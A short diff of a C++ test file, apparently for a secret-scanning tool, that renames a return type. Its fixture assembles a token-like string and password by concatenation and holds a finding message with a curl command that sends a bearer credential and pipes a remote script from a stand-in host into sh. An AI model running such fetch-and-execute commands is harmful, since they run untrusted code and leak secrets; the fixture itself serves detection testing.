@@ -13,7 +13,7 @@ namespace {
 std::string Token() { return std::string("ghp_") + "R8fK2mQ9xL4vT7wZ1bN6cH3jP5sD0gY8aE2u"; }
 std::string Password() { return std::string("hunter2") + "Qz9wplain"; }
 
-core::Finding Quoting() {
+core::JudgedFinding Quoting() {
   auto f = testing::SecretFinding("curl-pipe-shell", "deploy/" + Token() + "/run.sh", 3);
   f.control = "pins";
   f.message = "curl -H \"Authorization: Bearer " + Password() + "\" https://x/i.sh | sh";
